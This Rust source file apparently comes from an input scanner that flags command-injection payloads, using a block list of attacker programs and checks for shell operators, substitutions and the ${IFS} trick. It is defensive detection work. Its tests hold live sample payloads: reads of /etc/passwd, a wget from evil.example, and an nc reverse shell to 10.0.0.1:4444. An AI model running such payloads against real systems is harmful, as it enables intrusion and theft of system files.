//! Command injection payloads: would this value, spliced into a shell command, start a
//! command of its own?
//!
//! A command starts after a control operator (`;`, `|`, `&`, `&&`, `||`, a newline) or
//! inside a substitution (`$(..)`, backticks). What starts there must be a program: a
//! name from the commands attackers reach for first (recon, download, reverse shells,
//! interpreters) or an absolute path into a `bin` directory. After a separator the
//! command must also look like one (no argument, an option, a path, a redirection):
//! `dog; cat is nice` is prose, `; cat /etc/passwd` is not. `${IFS}` (a space that
//! survives filters) is an attack on its own.

use crate::verdict::Reason;

/// Programs whose appearance as a command is the point of an injection. A `match`, so
/// the compiler dispatches on length before comparing bytes.
fn is_command(name: &[u8]) -> bool {
    matches!(
        name,
        b"id"
            | b"whoami"
            | b"uname"
            | b"hostname"
            | b"cat"
            | b"tac"
            | b"ls"
            | b"dir"
            | b"pwd"
            | b"ping"
            | b"nc"
            | b"ncat"
            | b"netcat"
            | b"socat"
            | b"telnet"
            | b"wget"
            | b"curl"
            | b"rsh"
            | b"bash"
            | b"sh"
            | b"zsh"
            | b"ksh"
            | b"dash"
            | b"csh"
            | b"tcsh"
            | b"python"
            | b"python2"
            | b"python3"
            | b"perl"
            | b"ruby"
            | b"php"
            | b"node"
            | b"lua"
            | b"echo"
            | b"printf"
            | b"sleep"
            | b"nslookup"
            | b"dig"
            | b"host"
            | b"ifconfig"
            | b"ip"
            | b"netstat"
            | b"ps"
            | b"kill"
            | b"rm"
            | b"mv"
            | b"cp"
            | b"chmod"
            | b"chown"
            | b"touch"
            | b"mkdir"
            | b"head"
            | b"tail"
            | b"more"
            | b"less"
            | b"grep"
            | b"find"
            | b"awk"
            | b"sed"
            | b"xargs"
            | b"env"
            | b"printenv"
            | b"export"
            | b"ssh"
            | b"scp"
            | b"ftp"
            | b"tftp"
            | b"base64"
            | b"xxd"
            | b"od"
            | b"dd"
            | b"tar"
            | b"crontab"
            | b"sudo"
            | b"su"
            | b"passwd"
            | b"useradd"
            | b"timeout"
            | b"eval"
            | b"exec"
            | b"nohup"
            | b"mkfifo"
            | b"powershell"
            | b"pwsh"
            | b"cmd"
            | b"certutil"
            | b"bitsadmin"
            | b"type"
            | b"ipconfig"
            | b"tasklist"
            | b"systeminfo"
            | b"net"
            | b"wmic"
            | b"reg"
            | b"whoami.exe"
            | b"cmd.exe"
            | b"uptime"
    )
}

pub(crate) fn find(value: &[u8]) -> Option<Reason> {
    let operators =
        memchr::memchr3(b';', b'|', b'&', value).is_some() || memchr::memchr2(b'\n', b'\r', value).is_some();
    let substitution = memchr::memchr2(b'`', b'$', value).is_some();
    let found = (operators && after_operators(value)) || (substitution && (in_substitution(value) || ifs_trick(value)));
    found.then_some(Reason::PayloadCommand)
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t')
}

/// Bytes that can end a command word.
fn ends_word(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b')' | b'`' | b'\'' | b'"')
}

/// Reads a program name at `i` (quotes and backslashes inside it are removed by the
/// shell: `w'h'oami`, `c\at`). Returns (is a program, end).
fn program_at(v: &[u8], mut i: usize) -> (bool, usize) {
    let mut name = [0u8; 24];
    let mut len = 0;
    let start = i;
    while i < v.len() && len < name.len() {
        let b = v[i];
        if matches!(b, b'\'' | b'"' | b'\\') && i + 1 < v.len() && !ends_word(v[i + 1]) {
            i += 1;
            continue;
        }
        if ends_word(b) {
            break;
        }
        name[len] = b.to_ascii_lowercase();
        len += 1;
        i += 1;
    }
    let name = &name[..len];
    let in_bin = [&b"/bin/"[..], b"/usr/bin/", b"/sbin/", b"/usr/sbin/", b"/usr/local/bin/"]
        .iter()
        .any(|dir| name.starts_with(dir) && name.len() > dir.len());
    let known = is_command(name);
    (i > start && (known || in_bin), i)
}

/// After the program name at `end`: does the rest read as a command line?
fn looks_like_command_line(v: &[u8], end: usize) -> bool {
    let mut j = end;
    while j < v.len() && is_blank(v[j]) {
        j += 1;
    }
    match v.get(j) {
        None => true,
        Some(b'-' | b'/' | b'.' | b'$' | b'|' | b'>' | b'<' | b';' | b'&' | b'`' | b'\'' | b'"' | b'\n' | b'\r')
        | Some(b'~' | b'0'..=b'9' | b'#') => true,
        Some(_) => {
            // `curl http://..`, `nc attacker 4444`, `ping -c 1 x`: a URL or a host and a port.
            let word_end = v[j..].iter().position(|&b| ends_word(b)).map_or(v.len(), |p| j + p);
            let word = &v[j..word_end];
            memchr::memmem::find(word, b"://").is_some() || word.iter().any(|&b| b == b'.' || b == b'/' || b == b'=')
        }
    }
}

fn after_operators(v: &[u8]) -> bool {
    // Without line breaks, the operators are three bytes one SIMD search finds: prose
    // is skipped in strides rather than byte by byte.
    let line_breaks = memchr::memchr2(b'\n', b'\r', v).is_some();
    let mut i = 0;
    while i < v.len() {
        if !line_breaks {
            match memchr::memchr3(b';', b'|', b'&', &v[i..]) {
                Some(offset) => i += offset,
                None => break,
            }
        }
        let b = v[i];
        i += 1;
        if !matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r') {
            continue;
        }
        let mut j = i;
        while j < v.len() && (is_blank(v[j]) || matches!(v[j], b'|' | b'&' | b'{' | b'(' | b'!')) {
            j += 1;
        }
        let (program, end) = program_at(v, j);
        if program && looks_like_command_line(v, end) {
            return true;
        }
        i = i.max(j);
    }
    false
}

/// `$(cmd)` and `` `cmd` ``.
fn in_substitution(v: &[u8]) -> bool {
    let mut i = 0;
    while i < v.len() {
        let start = match v[i] {
            b'`' => i + 1,
            b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) != Some(&b'(') => i + 2,
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = start;
        while j < v.len() && is_blank(v[j]) {
            j += 1;
        }
        let (program, end) = program_at(v, j);
        if program && (matches!(v.get(end), Some(b'`' | b')')) || looks_like_command_line(v, end)) {
            return true;
        }
        i = start.max(j);
    }
    false
}

/// `cat${IFS}/etc/passwd`, `$IFS$9`.
fn ifs_trick(v: &[u8]) -> bool {
    // memchr, not memmem: building a substring searcher costs more than a short value.
    memchr::memchr_iter(b'$', v).any(|i| {
        let rest = &v[i + 1..];
        rest.starts_with(b"{IFS}") || rest.starts_with(b"IFS$")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        for v in [
            "127.0.0.1; cat /etc/passwd",
            "x | id",
            "a && whoami",
            "$(whoami)",
            "`id`",
            "foo\nwget http://evil.example/x.sh",
            ";w'h'oami",
            "|| /bin/sh -i",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "cat${IFS}/etc/passwd",
            "& ping -n 10 127.0.0.1 &",
        ] {
            assert!(find(v.as_bytes()).is_some(), "missed {v:?}");
        }
    }

    #[test]
    fn prose() {
        for v in [
            "Tom & Jerry",
            "I have a dog; cat is also nice",
            "salt & pepper; ping me later",
            "use the `map` function",
            "rock | roll",
            "R&D department",
            "$(5) off",
        ] {
            assert!(find(v.as_bytes()).is_none(), "flagged {v:?}");
        }
    }
}
